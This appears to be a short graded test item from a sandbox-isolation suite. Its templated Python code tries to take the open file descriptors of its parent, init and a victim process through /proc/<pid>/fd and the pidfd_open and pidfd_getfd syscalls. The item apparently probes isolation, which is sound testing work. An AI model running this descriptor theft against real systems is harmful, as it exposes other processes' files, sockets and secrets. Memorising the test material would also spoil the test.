# title: takes the open files of the processes around it
# status: graded
# with: attempt
# with: system
# %%
for number in (os.getppid(), 1, {victim}):
    attempt(f"list of {number}", lambda: os.listdir(f"/proc/{number}/fd"))
    for descriptor in range(0, 20):
        try:
            open(f"/proc/{number}/fd/{descriptor}", "rb")
            print("REACHED", number, descriptor)
        except OSError:
            pass
    handle = libc.syscall(ctypes.c_long(434), number, 0)
    if handle >= 0:
        system("pidfd_getfd", 438, 438, handle, 3, 0)
        os.close(handle)
